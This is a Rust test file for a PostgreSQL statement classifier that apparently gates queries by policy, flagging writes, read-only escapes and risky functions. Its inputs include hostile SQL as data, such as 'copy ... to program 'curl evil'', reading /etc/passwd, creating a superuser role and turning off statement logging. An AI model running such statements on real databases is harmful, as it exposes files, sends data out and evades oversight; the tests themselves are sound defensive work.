use super::*;

fn classes(sql: &str) -> Vec<String> {
    classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}")).classes.into_iter().collect()
}

#[test]
fn the_tree_shape_is_what_the_walk_expects() {
    // Guards the generic walk: if pg_query's serialized form changes, this fails loudly.
    let c = classify("delete from orders").unwrap();
    assert_eq!(c.classes.iter().collect::<Vec<_>>(), ["delete"]);
    assert!(c.unbounded_write);
    assert_eq!(c.relations.iter().collect::<Vec<_>>(), ["orders"]);
}

#[test]
fn classes_are_found_anywhere_in_the_tree() {
    // (statement, classes that must be present)
    let table: &[(&str, &[&str])] = &[
        ("select 1", &["select"]),
        ("SeLeCt * FrOm \"Orders\"", &["select"]),
        ("with gone as (delete from orders returning *) select * from gone", &["delete", "select"]),
        ("select * from (select 1) s where exists (select 1 from t where false)", &["select"]),
        ("select 1; drop table orders", &["drop", "select"]),
        ("/* harmless */ select 1; /* not */ truncate orders", &["select", "truncate"]),
        ("copy orders to program 'curl evil'", &["copy_program"]),
        ("copy orders from program 'cat /etc/passwd'", &["copy_program"]),
        ("copy (select 1) to stdout", &["copy_to", "select"]),
        ("copy orders from stdin", &["copy_from"]),
        ("do $$ begin perform 1; end $$", &["do_block"]),
        ("alter system set log_statement = 'none'", &["alter_system"]),
        ("grant all on orders to public", &["grant"]),
        ("create role evil superuser", &["role"]),
        ("explain analyze delete from orders where id = 1", &["delete", "explain"]),
        ("prepare p as delete from orders", &["delete", "prepare"]),
        ("create table t2 as select * from orders", &["create", "select"]),
        ("select * into t3 from orders", &["create", "select"]),
        ("insert into audit select * from orders", &["insert", "select"]),
        ("update orders set total = 0", &["update"]),
        ("insert into orders values (1), (2)", &["insert"]),
        ("merge into t using s on t.id = s.id when matched then delete", &["merge"]),
        ("begin; lock table orders in access exclusive mode; commit", &["lock", "transaction"]),
    ];
    for (sql, expected) in table {
        let got = classes(sql);
        for class in *expected {
            assert!(got.contains(&class.to_string()), "{sql}: {got:?} lacks {class}");
        }
    }
}

#[test]
fn insert_values_is_not_a_select() {
    assert_eq!(classes("insert into orders values (1, 'a')"), ["insert"]);
    assert_eq!(classes("values (1), (2)"), ["other"]);
}

#[test]
fn unbounded_writes_functions_and_relations() {
    let c = classify("with x as (update orders set total = 0) select pg_catalog.pg_read_file('/etc/passwd')").unwrap();
    assert!(c.unbounded_write);
    assert!(c.functions.contains("pg_read_file") && c.functions.contains("pg_catalog.pg_read_file"));
    let c = classify("select lo_export(1, '/tmp/x'), upper(name) from public.customers").unwrap();
    assert!(c.functions.contains("lo_export") && c.functions.contains("upper"));
    assert!(c.relations.contains("public.customers"));
    assert!(!classify("delete from orders where id = 1").unwrap().unbounded_write);
    assert!(!classify("update orders set total = 0 where id = $1").unwrap().unbounded_write);
}

#[test]
fn reads_and_writes() {
    for sql in ["select 1", "show search_path", "begin", "explain select 1", "set statement_timeout = 5"] {
        assert!(!classify(sql).unwrap().writes, "{sql}");
    }
    for sql in [
        "insert into t values (1)",
        "select 1; delete from t where id = 1",
        "vacuum",
        "create index on t (a)",
        "select * into t4 from t",
    ] {
        assert!(classify(sql).unwrap().writes, "{sql}");
    }
}

#[test]
fn unparsable_text_is_an_error() {
    for sql in ["selec 1", "select 'unterminated", "drop table", "\u{0}"] {
        assert!(classify(sql).is_err(), "{sql:?} parsed");
    }
}

#[test]
fn cache_returns_the_same_answer_and_stays_bounded() {
    let cache = ClassifyCache::new(2);
    let a = cache.classify("select 1");
    assert!(Arc::ptr_eq(&a, &cache.classify("select 1")));
    cache.classify("select 2");
    cache.classify("select 3");
    assert!(cache.len() <= 2);
}

#[test]
fn every_class_the_classifier_emits_is_one_policies_may_name() {
    let vocabulary = tollgate_shared::policy::STATEMENT_CLASSES;
    let emitted =
        CLASSES.iter().map(|(_, class)| *class).chain(["copy_from", "copy_to", "copy_program", "create", "other"]);
    for class in emitted.filter(|c| *c != "copy") {
        assert!(vocabulary.contains(&class), "{class} is missing from STATEMENT_CLASSES");
    }
}

#[test]
fn ways_out_of_read_only_are_flagged() {
    for sql in [
        "set default_transaction_read_only = off",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "begin read write",
        "start transaction read write",
        "set transaction read write",
        "reset default_transaction_read_only",
    ] {
        assert!(classify(sql).unwrap().escapes_read_only, "{sql}");
    }
    for sql in ["set statement_timeout = 5", "begin", "commit", "begin read only", "set transaction read only"] {
        assert!(!classify(sql).unwrap().escapes_read_only, "{sql}");
    }
}
